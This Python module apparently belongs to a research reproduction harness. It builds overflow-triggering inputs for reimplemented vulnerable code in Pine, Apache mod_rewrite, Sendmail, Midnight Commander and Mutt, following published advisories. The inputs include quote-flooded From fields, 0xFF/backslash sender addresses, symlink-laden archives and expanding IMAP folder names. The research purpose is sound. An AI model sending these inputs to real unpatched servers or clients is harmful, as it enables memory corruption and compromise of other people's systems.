"""Attack inputs that trigger each server's documented memory error.

Each generator reproduces the *triggering condition* described in the paper
and the public advisories it cites, expressed against our reimplemented code
paths:

* Pine (§4.2, Security Focus bid 6120): a message whose ``From`` field needs
  many quote characters, overflowing the undersized display buffer.
* Apache (§4.3, bid 8911): a URL matching a rewrite rule with more than ten
  parenthesized captures, overflowing the capture-offset buffer.
* Sendmail (§4.4, bid 7230): an address alternating 0xFF (sign-extended to -1)
  with ``\\`` characters, defeating prescan's bounds check.
* Midnight Commander (§4.5, bid 8658): a tgz archive with enough absolute
  symlinks that their accumulated component names overflow the link buffer.
* Mutt (§4.6, SecuriTeam 5FP0T0U9FU): an IMAP folder name whose UTF-8 to
  UTF-7 conversion expands by more than a factor of two.
"""

from __future__ import annotations

from typing import Dict, List

from repro.servers.apache import VULNERABLE_RULE, DEFAULT_REWRITE_RULES
from repro.servers.base import Request
from repro.servers.midnight_commander import ArchiveEntry, LINKNAME_BUFFER_SIZE
from repro.servers.pine import DEFAULT_MAILBOX, LENGTH_ESTIMATE_SLACK
from repro.servers.sendmail import PRESCAN_BUFFER_SIZE

# ---------------------------------------------------------------------------
# Pine
# ---------------------------------------------------------------------------


def pine_attack_message(quoted_characters: int = 64) -> Dict[str, bytes]:
    """A message whose From field overflows Pine's display buffer.

    Every ``"`` in the From field grows the quoted copy by one byte; anything
    beyond :data:`~repro.servers.pine.LENGTH_ESTIMATE_SLACK` extra bytes runs
    off the end of the buffer.
    """
    if quoted_characters <= LENGTH_ESTIMATE_SLACK:
        raise ValueError(
            f"need more than {LENGTH_ESTIMATE_SLACK} quoted characters to overflow"
        )
    from_field = b'"' * quoted_characters + b" <attacker@evil.example>"
    return {"from": from_field, "subject": b"hello", "body": b"ignore me"}


def pine_poisoned_mailbox(quoted_characters: int = 64) -> List[Dict[str, bytes]]:
    """The default mailbox with the attack message appended (§4.2.2)."""
    return list(DEFAULT_MAILBOX) + [pine_attack_message(quoted_characters)]


# ---------------------------------------------------------------------------
# Apache
# ---------------------------------------------------------------------------


def apache_vulnerable_config() -> Dict[str, object]:
    """Server configuration containing the >10-capture rewrite rule."""
    return {"rewrite_rules": list(DEFAULT_REWRITE_RULES) + [VULNERABLE_RULE]}


def apache_attack_request() -> Request:
    """A URL that matches the vulnerable rule with all of its captures."""
    url = "/r/" + "a" * 4 + "bbccddeeffgghhiijjkkllmm/AAAA-payload"
    return Request(kind="get", payload={"url": url}, is_attack=True)


# ---------------------------------------------------------------------------
# Sendmail
# ---------------------------------------------------------------------------


def sendmail_attack_address(pairs: int = 0) -> bytes:
    """The alternating 0xFF / ``\\`` address of §4.4.1.

    Each pair drives prescan down the path that stores a ``\\`` without a
    bounds check, so enough pairs write arbitrarily far beyond the buffer.
    """
    if pairs <= 0:
        pairs = PRESCAN_BUFFER_SIZE * 2
    return (b"\xff\\" * pairs) + b"@evil.example"


def sendmail_attack_request(body: bytes = b"0wned") -> Request:
    """A message whose sender address triggers the prescan overflow."""
    return Request(
        kind="receive",
        payload={
            "sender": sendmail_attack_address(),
            "recipient": b"user@localhost",
            "body": body,
        },
        is_attack=True,
    )


# ---------------------------------------------------------------------------
# Midnight Commander
# ---------------------------------------------------------------------------


def midnight_commander_attack_archive(links: int = 8) -> List[ArchiveEntry]:
    """A tgz archive whose absolute symlinks overflow the link-name buffer.

    Component names accumulate in the uninitialized buffer; a handful of
    moderately long absolute targets exceeds
    :data:`~repro.servers.midnight_commander.LINKNAME_BUFFER_SIZE`.
    """
    per_link = max(LINKNAME_BUFFER_SIZE // max(links, 1), 8)
    entries = [ArchiveEntry(name="README", content=b"archive readme")]
    for index in range(links):
        target = "/" + "/".join(
            f"AAAA{index:02d}{j:02d}" for j in range(per_link // 8 + 1)
        )
        entries.append(
            ArchiveEntry(name=f"link{index}", is_symlink=True, target=target)
        )
    return entries


def midnight_commander_attack_request(links: int = 8) -> Request:
    """Open the malicious archive (§4.5.2)."""
    return Request(
        kind="open_archive",
        payload={"entries": midnight_commander_attack_archive(links)},
        is_attack=True,
    )


def midnight_commander_blank_line_config() -> Dict[str, object]:
    """A configuration file with blank lines (the §4.5.4 benign error trigger)."""
    return {
        "config_text": (
            "[Midnight-Commander]\n"
            "verbose=1\n"
            "\n"
            "show_backups=0\n"
            "\n"
            "confirm_delete=1\n"
        )
    }


# ---------------------------------------------------------------------------
# Mutt
# ---------------------------------------------------------------------------


def mutt_attack_folder_name(length: int = 120) -> bytes:
    """An IMAP folder name whose UTF-7 conversion expands by more than 2x.

    Control characters (one UTF-8 byte each) are base64-encoded as 16-bit
    units in UTF-7, an expansion of roughly 8/3 — beyond the factor of two the
    buggy allocation assumes (§4.6.1).
    """
    return b"\x01" * length


def mutt_attack_request(length: int = 120) -> Request:
    """Open the folder with the expanding name."""
    return Request(
        kind="open_folder",
        payload={"folder": mutt_attack_folder_name(length)},
        is_attack=True,
    )


def mutt_attack_config(length: int = 120) -> Dict[str, object]:
    """Configure Mutt to open the malicious folder while starting (§4.6.4)."""
    return {"startup_folder": mutt_attack_folder_name(length)}


# ---------------------------------------------------------------------------
# Registry used by the harness
# ---------------------------------------------------------------------------


def attack_request_for(server_name: str) -> Request:
    """Return the canonical attack request for a server (from its profile)."""
    from repro.servers.profile import get_profile

    try:
        return get_profile(server_name).make_attack_request()
    except KeyError:
        raise KeyError(f"no attack request defined for server {server_name!r}") from None
